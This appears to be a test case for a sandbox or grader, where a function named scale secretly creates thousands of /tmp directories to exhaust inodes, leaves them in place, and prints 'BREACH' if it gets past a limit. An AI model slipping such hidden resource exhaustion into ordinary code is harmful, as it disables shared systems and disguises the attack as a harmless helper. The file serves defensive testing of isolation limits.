"""100: uses up every inode, and leaves them

Defence: inodes-of-tmp, inodes-are-counted
"""

import os

from honest import *

MOST = 4096


def scale(values, by):
    made = 0
    try:
        for made in range(4 * MOST):
            os.mkdir(f"/tmp/{made}")
    except OSError:
        pass
    if made > MOST:
        print("BREACH", made, "folders")
    return values * by
